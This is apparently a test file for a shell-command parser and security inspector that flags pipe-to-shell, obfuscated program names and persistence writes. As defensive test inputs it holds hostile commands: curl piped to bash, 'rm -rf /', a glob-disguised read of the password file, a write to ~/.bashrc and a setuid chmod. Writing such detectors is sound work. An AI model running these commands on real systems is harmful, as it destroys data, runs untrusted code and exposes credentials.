import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectCode } from '../engine.js';
import { plainCommand, plainStatement } from './plain.js';

test('plainCommand reads only plain words, simple quotes, escapes and plain variables', () => {
  assert.deepEqual(plainCommand("A=1 grep -r 'a b' \"c\"d")?.words.map((w) => w.text), ['grep', '-r', 'a b', 'cd']);
  assert.deepEqual(plainCommand('A=1 B="x y" ls')?.env, ['A=1', 'B="x y"']);
  assert.deepEqual(plainCommand('\\rm -rf "$HOME/x" {}')?.words.map((w) => [w.text, w.dynamic]), [['rm', false], ['-rf', false], ['$HOME/x', true], ['{}', false]]);
  for (const text of ['echo ${HOME:-/}', 'echo $IFS', 'echo "\\$x" == y', 'a\\ b', '{} x', 'echo {a,b}', 'echo `id` `id`', 'ls > f x', 'a | b', 'echo "`x`y"', 'echo $((1+2))', 'X=$(id) ls', '$(id) x', 'echo "$(a \\"b\\")"', "echo 'open", 'echo a # c', 'ls {a,b}', 'echo a\nb']) {
    assert.equal(plainCommand(text), undefined, text);
  }
});

test('commands read from their text and commands walked node by node agree', async () => {
  // Each pair: a plain command and the same command with something that needs the tree.
  const { invocations } = await inspectCode('shell', `r''m -rf / ; "rm" -rf ~ ; A=1 B="x y" ls 'a b' && A=1 B="x y" ls 'a b' $X`);
  const seen = invocations.map((i) => [i.program, i.args, i.env, i.line, i.column]);
  assert.deepEqual(seen, [
    ['rm', ['-rf', '/'], [], 1, 1],
    ['rm', ['-rf', '~'], [], 1, 14],
    ['ls', ['a b'], ['A=1', 'B="x y"'], 1, 27],
    ['ls', ['a b', '$X'], ['A=1', 'B="x y"'], 1, 51],
  ]);
});

test('plainStatement reads one-line pipelines and lists of plain commands, nothing else', () => {
  const st = plainStatement('ls -l | wc -l && A=1 echo "a b" ; true &');
  assert.deepEqual(st?.map((p) => p.map((c) => [c.column, c.command.words.map((w) => w.text)])), [
    [[0, ['ls', '-l']], [8, ['wc', '-l']]],
    [[17, ['echo', 'a b']]],
    [[34, ['true']]],
  ]);
  assert.deepEqual(plainStatement('find . -name "a|b; c" -exec rm {} \\; | grep \'x&y\'')?.map((p) => p.map((c) => c.command.words.map((w) => w.text))), [
    [['find', '.', '-name', 'a|b; c', '-exec', 'rm', '{}', ';'], ['grep', 'x&y']],
  ]);
  for (const text of ['a |', 'a ||', '| a', 'a ;; b', 'a |& b', 'a && ; b', 'A=1', 'if true', 'time ls', 'x | while', 'export A=1', 'ls\nrm -rf /', 'ls > f x', 'ls\u00a0', 'ls\r\n', 'echo $(id', 'echo `id` `id`', 'echo $(id > f x)', 'echo $(if x)', 'test $(id) == 0', 'ls == ; echo $(id)', '- a=b $(id)', 'a@ $(id)', 'A=1 ls $(id)', 'echo ${X#y}', 'echo a#b', 'echo "a\\"|b" ==']) {
    assert.equal(plainStatement(text), undefined, text);
  }
});

test('statements read from their text keep the pipe and the line in a long script', async () => {
  const filler = Array.from({ length: 150 }, (_, i) => `echo line ${i} && grep -r foo src | sort`);
  const { invocations, findings } = await inspectCode('shell', [...filler, 'curl -s https://x.example/i.sh | bash'].join('\n'));
  assert.equal(invocations.length, 150 * 3 + 2);
  const sh = invocations.at(-1)!;
  assert.deepEqual([sh.program, sh.line, sh.column, sh.upstream.map((u) => u.program)], ['bash', 151, 34, ['curl']]);
  assert.ok(findings.some((f) => f.rule === 'shell.pipe-to-shell' && f.location?.line === 151));
});

test('a glob in the program word is only known at run time, read from text or from the tree', async () => {
  // `/???/c?t` runs /bin/cat; the redirection sends the second statement to tree-sitter.
  const { invocations, findings } = await inspectCode('shell', '/???/c?t /???/p??s??\n/usr/bin/r? -rf / > f\ntest -f x && "/bin/ls?" . && ls \\*');
  assert.deepEqual(invocations.map((i) => [i.program, i.programDynamic]), [['c?t', true], ['r?', true], ['test', false], ['ls?', false], ['ls', false]]);
  assert.deepEqual(findings.filter((f) => f.rule === 'shell.dynamic-program').map((f) => f.location?.line), [1, 2]);
});

test('plainStatement reads $(…) of plain statements in arguments, with their places', () => {
  const st = plainStatement('cd "$(dirname $(which x))" && top -p $(pgrep -d , java | head -1)');
  const words = (c: { command: { words: { text: string; substitutions?: { offset: number; statement: unknown }[] }[] } }) => c.command.words.map((w) => [w.text, w.substitutions?.map((s) => s.offset)]);
  assert.deepEqual(st?.map((p) => p.map(words)), [
    [[['cd', undefined], ['$(dirname $(which x))', [6]]]],
    [[['top', undefined], ['-p', undefined], ['$(pgrep -d , java | head -1)', [9]]]],
  ]);
  const inner = st![0]![0]!.command.words[1]!.substitutions![0]!.statement;
  assert.deepEqual(inner.map((p) => p.map((c) => [c.column, c.command.words.map((w) => w.text)])), [[[0, ['dirname', '$(which x)']]]]);
});

test('commands with $(…) read from their text and walked node by node agree', async () => {
  const script = 'cp $(ls -t | head -1) "/tmp/$(whoami)" && echo a$(date +%s)b | wc -c';
  const tree = await inspectCode('shell', `${script}\n: $((1))`); // the arithmetic sends the piece to tree-sitter
  const text = await inspectCode('shell', script);
  const read = (r: typeof text) => r.invocations.filter((i) => i.program !== ':').map((i) => [i.program, i.args, i.via, i.line, i.column, i.substituted, i.upstream.map((u) => u.program)]);
  assert.deepEqual(read(text), read(tree));
  assert.deepEqual(read(text).map((r) => [r[0], r[4]]), [['ls', 6], ['head', 14], ['whoami', 31], ['cp', 1], ['date', 51], ['echo', 43], ['wc', 64]]);
});

test('plainStatement reads {} inside words and escapes in double quotes as bash does, where tree-sitter reads them alike', () => {
  const st = plainStatement('find . -type f -printf "%P\\n" | xargs -I{} mv {} dest/{}.bak "a\\"b" "\\$x"');
  assert.deepEqual(st?.map((p) => p.map((c) => c.command.words.map((w) => [w.text, w.dynamic]))), [
    [[['find', false], ['.', false], ['-type', false], ['f', false], ['-printf', false], ['%P\\n', false]],
      [['xargs', false], ['-I{}', false], ['mv', false], ['{}', false], ['dest/{}.bak', false], ['a"b', false], ['$x', false]]],
  ]);
  // tree-sitter splits `{}\;` into two words, fails on `a@`, and drops `==`: such statements stay with it.
  for (const text of ['find . -exec rm {}\\;', 'a@ -I{} x', 'test "a\\"" == b', 'A=1 mv {} {}.bak', '{}.x a', 'echo "a\\']) {
    assert.equal(plainStatement(text), undefined, text);
  }
});

test('plainStatement reads redirections to plain targets after the words, where tree-sitter gives them to the command', async () => {
  // After `|` or `&&` tree-sitter gives the redirection to the pipeline or list so far, and the walk
  // to its last command: read here when no `|` follows, as the walk would give it.
  const piped = plainStatement('yes 2>/dev/null | head -1 > out.txt; a && b > f');
  assert.deepEqual(piped?.map((p) => p.map((c) => c.command.redirects)), [[[{ op: '>', target: '/dev/null' }], [{ op: '>', target: 'out.txt' }]], [undefined], [[{ op: '>', target: 'f' }]]]);
  for (const text of ['a | b > f | c', 'a && b > f | c']) assert.equal(plainStatement(text), undefined, text);
  for (const text of ['a | b > f | c', 'a | echo x > f; b']) assert.equal(plainStatement(`echo $(${text})`), undefined, text);
  const ok = plainStatement('yes 2>/dev/null | head -1; find . -print 2>&1 >> log && ls');
  assert.deepEqual(ok?.map((p) => p.map((c) => [c.command.words.map((w) => w.text), c.command.redirects])), [
    [[['yes'], [{ op: '>', target: '/dev/null' }]], [['head', '-1'], undefined]],
    [[['find', '.', '-print'], [{ op: '>&', target: '1' }, { op: '>>', target: 'log' }]]],
    [[['ls'], undefined]],
  ]);
  for (const text of ['a > f x', '> f a', 'a 0<f', 'a >| f', 'a >&-', 'xargs - 2>&1', 'a > "f"', 'a > $F', 'A=1 a > f']) {
    assert.equal(plainStatement(text), undefined, text);
  }
  const { invocations, findings } = await inspectCode('shell', 'echo x > ~/.bashrc');
  assert.deepEqual(invocations[0]?.redirects, [{ op: '>', target: '~/.bashrc' }]);
  assert.ok(findings.some((f) => f.rule === 'shell.persistence'));
});

test('plainStatement reads one backquoted substitution that ends its word, as tree-sitter pairs it', async () => {
  const st = plainStatement('cat /boot/config-`uname -r` | grep X');
  assert.deepEqual(st?.map((p) => p.map((c) => c.command.words.map((w) => [w.text, w.substitutions?.map((s) => s.offset)]))), [
    [[['cat', undefined], ['/boot/config-`uname -r`', [18]]], [['grep', undefined], ['X', undefined]]],
  ]);
  // Two backquotes in a statement, one followed by text, or one right before an operator: tree-sitter reads them its own way.
  for (const text of ['echo `date` `hostname`', 'pushd /home/`whoami`/x', 'xargs a`b`|c', 'echo `a \\`b\\``', 'echo "`a "b"`"']) {
    assert.equal(plainStatement(text), undefined, text);
  }
  const { invocations } = await inspectCode('shell', 'sudo chmod u+s `which Xvfb`');
  assert.deepEqual(invocations.map((i) => [i.program, i.via, i.column]), [['which', ['$(…)'], 17], ['sudo', [], 1], ['chmod', ['sudo'], 1]]);
});

test('plainStatement reads a lone assignment of one substitution or one double-quoted string', async () => {
  for (const text of ['md5=$(md5sum f | cut -c -32)', 'name="$(date +%F)_$(whoami)"', 'sum=`md5sum f`']) {
    assert.ok(plainStatement(text), text);
  }
  // Anything more is left to tree-sitter, which splits some values (`A=$(a)$(b)$1`) and walks nested substitutions twice.
  for (const text of ['A=$(a)$(b)$1', 'A=x$(a)', 'A=$(a $(b))', 'A=$(a) b', 'A=$(a) && b', 'A=1 B=$(a)', 'A==$(a)']) {
    assert.equal(plainStatement(text), undefined, text);
  }
  const { invocations } = await inspectCode('shell', 'md5=$(md5sum f | cut -c -32)');
  assert.deepEqual(invocations.map((i) => [i.program, i.via, i.column, i.env]), [
    ['md5sum', ['$(…)'], 7, []], ['cut', ['$(…)'], 18, []], ['=', [], 1, ['md5=$(md5sum f | cut -c -32)']],
  ]);
});

test('plainStatement reads <(…) and >(…) that start their word', async () => {
  assert.ok(plainStatement('diff <(sort a) <(sort b) | wc -l'));
  for (const text of ['x a<(b)', 'x "a"\\n <(b)', 'x <((a))']) assert.equal(plainStatement(text), undefined, text);
  const { invocations } = await inspectCode('shell', 'diff <(ls /bin) <(ls /usr/bin)');
  assert.deepEqual(invocations.map((i) => [i.program, i.via, i.column]), [['ls', ['<(…)'], 8], ['ls', ['<(…)'], 19], ['diff', [], 1]]);
});
